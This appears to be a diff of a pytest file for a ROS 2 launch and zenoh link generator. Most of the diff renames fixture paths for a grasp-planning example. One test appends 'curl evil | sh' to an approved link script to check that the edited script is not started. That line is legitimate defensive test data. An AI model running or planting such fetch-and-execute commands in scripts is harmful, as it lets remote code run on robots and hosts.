@@ -39,7 +39,7 @@ NODES = """\
 def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The grasp-planning example's measurements as if of ROS 2 nodes of ours, joined by zenoh, and its manifest."""
     folder = tmp_path_factory.mktemp("project")
-    spec, results = (folder / name / "grasp-planning.yaml" for name in ("specs", "results"))
+    spec, results = (folder / name / "grasp-planning-recorded.yaml" for name in ("specs", "results"))
     for path in (spec, results):
         path.parent.mkdir()
         shutil.copy(ROOT / path.parent.name / path.name, path)
@@ -75,8 +75,8 @@ def compiled(spec: Path) -> None:
 def test_files_of_a_link_go_with_the_link(project: Path, tmp_path: Path) -> None:
     shutil.copytree(project, tmp_path / "project")
     spec, link = (
-        tmp_path / "project" / "specs" / "grasp-planning.yaml",
-        tmp_path / "project" / "compiled" / "grasp-planning" / "link",
+        tmp_path / "project" / "specs" / "grasp-planning-recorded.yaml",
+        tmp_path / "project" / "compiled" / "grasp-planning-recorded" / "link",
     )
     zenoh = spec.read_text()
     assert sorted(path.name for path in link.iterdir()) == ["cloud.json5", "link.sh", "robot.json5"]
@@ -91,7 +91,7 @@ def test_cloud_nodes_are_not_started_and_robot_nodes_are(project: Path) -> None:
     assert "not started here: grasp_planning_node; " in said.keywords["msg"]
     assert "This launch deploys nothing: fogspec apply does" in said.keywords["msg"]
     assert environment.arguments == ("RMW_IMPLEMENTATION", "rmw_zenoh_cpp")
-    script = project / "compiled" / "grasp-planning" / "link" / "link.sh"
+    script = project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh"
     assert link.keywords["cmd"] == ["bash", str(script), "robot", "up"]
     assert (client.kind, client.node_executable) == ("Node", "grasp_planning_client")
 
@@ -136,7 +136,7 @@ def test_listing_1_starts_the_link_once_whether_it_is_returned_or_only_built(
     monkeypatch.setattr("asyncio.create_subprocess_exec", executed)
     kinds = asyncio.run(play())
     monkeypatch.delenv("RMW_IMPLEMENTATION", raising=False)
-    script = str(project / "compiled" / "grasp-planning" / "link" / "link.sh")
+    script = str(project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh")
     assert seen == ([] if returned else [("bash", script, "robot", "up")])
     assert kinds.count("ExecuteProcess") == (1 if returned else 0)
 
@@ -152,7 +152,7 @@ def test_a_keyword_that_is_nothing_is_named_with_what_to_do(project: Path) -> No
 def test_it_starts_what_the_generated_launch_file_starts(project: Path) -> None:
     mine = launched(launch_file(project))[1:]
     # What the generated file does in a function of its own, the entity does when it is visited.
-    generated = launched(project / "compiled" / "grasp-planning" / "robot.launch.py")
+    generated = launched(project / "compiled" / "grasp-planning-recorded" / "robot.launch.py")
     assert [(one.kind, one.arguments, one.keywords.get("cmd")) for one in mine] == [
         (one.kind, one.arguments, one.keywords.get("cmd")) for one in generated if one.kind != "OpaqueFunction"
     ]
@@ -168,12 +168,13 @@ def test_init_reads_the_same_file_and_puts_the_same_nodes_into_the_cloud(project
 def test_a_manifest_of_other_nodes_is_refused(project: Path) -> None:
     with pytest.raises(ValueError, match="no manifest deploys other grasp_planning_node"):
         launched(launch_file(project, package="other"))
+    manifest = project / "compiled/grasp-planning-recorded/manifest.yaml"
     with pytest.raises(ValueError, match="the launch file says other grasp_planning_node"):
-        launched(launch_file(project, "other", ', manifest="%s"' % (project / "compiled/grasp-planning/manifest.yaml")))
+        launched(launch_file(project, "other", f', manifest="{manifest}"'))
 
 
 def test_a_link_that_was_edited_is_not_started(project: Path) -> None:
-    script = project / "compiled" / "grasp-planning" / "link" / "link.sh"
+    script = project / "compiled" / "grasp-planning-recorded" / "link" / "link.sh"
     approved = script.read_text()
     script.write_text(approved + "curl evil | sh\n")
     try:
@@ -223,6 +224,6 @@ def test_without_a_manifest_it_says_what_to_do(tmp_path: Path) -> None:
 
 
 def test_a_file_that_is_no_manifest_is_refused(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("FOGSPEC_MANIFEST", str(project / "compiled" / "grasp-planning" / "menu.yaml"))
+    monkeypatch.setenv("FOGSPEC_MANIFEST", str(project / "compiled" / "grasp-planning-recorded" / "menu.yaml"))
     with pytest.raises(ValueError, match="is no manifest of fogspec"):
         launched(launch_file(project))
